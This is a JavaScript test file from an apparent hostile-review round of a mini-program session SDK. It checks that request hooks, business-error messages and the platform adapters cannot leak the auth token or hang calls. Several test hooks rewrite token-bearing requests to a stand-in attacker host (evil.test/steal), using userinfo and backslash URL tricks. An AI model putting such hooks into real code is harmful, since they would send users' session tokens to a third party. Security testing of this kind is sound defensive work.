// Hostile review, fourth round: what a hostile app, server or platform can still do to the BUILT
// SDK (js-glue/dist, the wasm build, and js-glue/dist-js, the JavaScript build) through the newer
// surfaces: the beforeRequest hook, refresh tokens, business rules, the platform adapters. Each
// case is a minimal reproduction of one finding, asserting what README.md promises. Every wait is
// bounded: a hang is a failing assertion, never a stuck test.
'use strict';

const test = require('node:test');
const assert = require('node:assert/strict');
const { BUILDS, sdk, outcome } = require('../hostile/harness');
const fakes = require('../fakes/wx');

const show = (r) => (r.hang ? 'hung' : r.ok ? `resolved ${JSON.stringify(r.value && (r.value.token !== undefined ? r.value.token : r.value.statusCode))}`
  : `rejected ${r.error && r.error.name}/${r.code}: ${String(r.error && r.error.message).slice(0, 160)}`);

// What went to `path` (any origin), as "url token".
const sentTo = (t, re) => t.fake.requests().filter((o) => re.test(o.url)).map((o) => `${o.url} ${o.header ? o.header.token : ''}`);

for (const build of BUILDS) {
  // ---- beforeRequest -------------------------------------------------------------------------

  test(`${build.name}: a beforeRequest hook that moves a request carrying the token to another origin: nothing goes there (BEFORE_REQUEST_FAILED)`, async () => {
    const t = sdk({ build });
    const hooks = {
      'returns new options': (o) => Object.assign({}, o, { url: 'https://evil.test/steal' }),
      'changes options.url': (o) => { o.url = 'https://api.test.evil.test/x'; },
      'resolves to new options': (o) => Promise.resolve(Object.assign({}, o, { url: 'https://api.test@evil.test/x' })),
      'sets a backslash host': (o) => { o.url = 'https://evil.test\\@api.test/x'; },
    };
    for (const [name, hook] of Object.entries(hooks)) {
      const s = t.create({ beforeRequest: hook });
      const r = await outcome(s.request({ url: '/api/x' }));
      assert.equal(r.code, 'BEFORE_REQUEST_FAILED', `${name}: ${show(r)}`);
      assert.ok(Object.prototype.toString.call(r.error) === '[object Error]' && r.error.name === 'WxSessionError');
    }
    assert.deepEqual(sentTo(t, /evil/), [], 'the token went to another origin');
    // What stays allowed: the same origin with a new path or query, and any URL for auth: false.
    const s = t.create({ beforeRequest: (o) => { o.url = o.url.replace('https://API.test', 'https://api.test') + '?sign=1'; } });
    assert.equal((await outcome(s.request({ url: 'https://API.test/api/y' }))).ok, true);
    const free = t.create({ beforeRequest: (o) => { o.url = 'https://cdn.test/x'; } });
    assert.equal((await outcome(free.request({ url: '/api/z', auth: false }))).ok, true);
    assert.deepEqual(sentTo(t, /cdn\.test/), ['https://cdn.test/x ']);
  });

  test(`${build.name}: a beforeRequest thenable whose then throws (or is gone on the second read) fails that call, never the instance`, async () => {
    const t = sdk({ build, respond: (o) => (/\/api\/slow/.test(o.url) ? null : undefined) });
    let reads = 0;
    const thenables = {
      'then throws': () => ({ then() { throw new Error('boom'); } }),
      'then gone on the second read': () => ({ get then() { return ++reads % 2 ? function () {} : undefined; } }),
    };
    for (const [name, make] of Object.entries(thenables)) {
      // Another session of the same instance with a call in flight: a dead instance fails it too.
      const other = t.create({ storageKey: 'other' });
      const inFlight = outcome(other.request({ url: '/api/slow', timeout: 400 }), 3000);
      const s = t.create({ beforeRequest: (o) => (/\/api\/x/.test(o.url) ? make() : undefined) });
      const r = await outcome(s.request({ url: '/api/x' }));
      assert.equal(r.code, 'BEFORE_REQUEST_FAILED', `${name}: ${show(r)}`);
      const o = await inFlight;
      assert.equal(o.code, 'TIMEOUT', `${name}: the other session's call: ${show(o)}`);
    }
  });

  test(`${build.name}: a beforeRequest thenable that answers twice, or resolves then rejects, sends once and the call resolves`, async () => {
    const thenables = {
      'resolves twice': (o) => ({ then(ok) { ok(o); ok(o); } }),
      'resolves twice later': (o) => ({ then(ok) { setTimeout(() => { ok(o); ok(o); }, 1); } }),
      'resolves then rejects': (o) => ({ then(ok, bad) { ok(o); bad(new Error('late')); } }),
    };
    for (const [name, hook] of Object.entries(thenables)) {
      const t = sdk({ build });
      const s = t.create({ beforeRequest: hook });
      const r = await outcome(s.request({ url: '/api/order', method: 'POST' }));
      assert.equal(r.ok, true, `${name}: ${show(r)}`);
      assert.equal(sentTo(t, /\/api\/order/).length, 1, `${name}: a POST went out ${sentTo(t, /\/api\/order/).length} times`);
    }
  });
}

for (const build of BUILDS) {
  // ---- api.failWhen / messagePath ------------------------------------------------------------

  test(`${build.name}: a business failure whose message (api.messagePath) echoes the token: the error message never carries it`, async () => {
    const echo = (o) => (/\/api\/echo/.test(o.url) ? { statusCode: 200, data: { code: 7, msg: `token ${o.header && o.header.token} may not do this` }, header: {} } : undefined);
    const t = sdk({ build, respond: echo });
    const s = t.create({ api: { failWhen: [{ path: 'code', notEquals: 0 }], messagePath: 'msg' } });
    const r = await outcome(s.request({ url: '/api/echo' }));
    assert.equal(r.code, 'API_ERROR', show(r));
    const token = s.token();
    assert.ok(token);
    assert.ok(!r.error.message.includes(token), r.error.message);
    assert.equal(r.error.message, 'token … may not do this');
  });
}

// ---- platform adapters ---------------------------------------------------------------------

// Alipay's adapter is in the JavaScript build only (Alipay has WebAssembly only inside Workers).
test('JavaScript build on Alipay: my.request answering success() with nothing, null or an unreadable answer → NETWORK at once, as on WeChat (not a throw into the platform and a wait for the time limit)', async () => {
  const t = sdk({ build: BUILDS[1] });
  const answers = {
    'success(undefined)': (o) => o.success(undefined),
    'success(null)': (o) => o.success(null),
    'success with a throwing status getter': (o) => o.success({ get status() { throw new Error('x'); }, data: {} }),
    'fail(error 19) with a 401 whose headers getter throws': (o) => o.fail({ error: 19, status: 401, data: {}, get headers() { throw new Error('h'); } }),
  };
  for (const [name, answer] of Object.entries(answers)) {
    const my = fakes.createMy({ schedule: 2 });
    const request = my.my.request;
    const thrown = [];
    my.my.request = function (o) {
      if (!/\/api\//.test(o.url)) return request.apply(this, arguments);
      setTimeout(() => {
        try {
          answer(o);
        } catch (e) {
          thrown.push(e.message); // the platform's callback threw
        }
      }, 1);
      return { abort() {} };
    };
    const s = t.create({ platform: 'alipay', wx: my.my, timeoutMs: 3000, retries: 0 });
    const started = Date.now();
    const r = await outcome(s.request({ url: '/api/x' }), 6000);
    assert.equal(r.code, 'NETWORK', `${name}: ${show(r)}`);
    assert.ok(Date.now() - started < 1000, `${name}: took ${Date.now() - started} ms`);
    assert.deepEqual(thrown, [], `${name}: a throw into my.request's callback`);
  }
});

for (const build of BUILDS) {
  test(`${build.name} on Douyin: login.anonymous 'force' and the user closes Douyin's login screen: WX_LOGIN_FAILED, the screen shown once (not once more per retry)`, async () => {
    const t = sdk({ build });
    // (Douyin's loader: the sandbox's WXWebAssembly stands for TTWebAssembly, a package path too.)
    if (!build.js) t.runtime.context.TTWebAssembly = t.runtime.context.WXWebAssembly;
    const tt = fakes.createTt({ schedule: 2, loggedIn: false, loginUi: 'cancel' });
    const s = t.create({ platform: 'douyin', wx: tt.tt, login: { anonymous: 'force' } });
    const r = await outcome(s.ensure(), 9000);
    assert.equal(r.code, 'WX_LOGIN_FAILED', show(r));
    assert.equal(tt.counts.loginUi, 1, `Douyin's login screen opened ${tt.counts.loginUi} times`);
    // The next call asks again (the user may change their mind).
    const again = await outcome(s.ensure(), 9000);
    assert.equal(again.code, 'WX_LOGIN_FAILED', show(again));
    assert.equal(tt.counts.loginUi, 2);
  });
}
